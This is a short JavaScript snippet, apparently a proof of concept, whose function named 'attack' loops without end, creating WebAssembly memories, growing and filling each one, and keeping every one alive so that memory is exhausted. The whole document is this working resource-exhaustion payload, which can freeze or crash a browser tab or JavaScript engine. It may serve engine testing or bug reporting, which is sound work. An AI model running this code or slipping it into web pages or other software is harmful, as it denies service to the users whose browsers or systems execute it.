function attack() {
  const all = [];
  for (;;) {
    const memory = new WebAssembly.Memory({ initial: 1, maximum: 65536 });
    try { for (;;) { memory.grow(64); new Uint8Array(memory.buffer).fill(1, memory.buffer.byteLength - (64 << 16)); } } catch { }
    all.push(memory);
  }
}
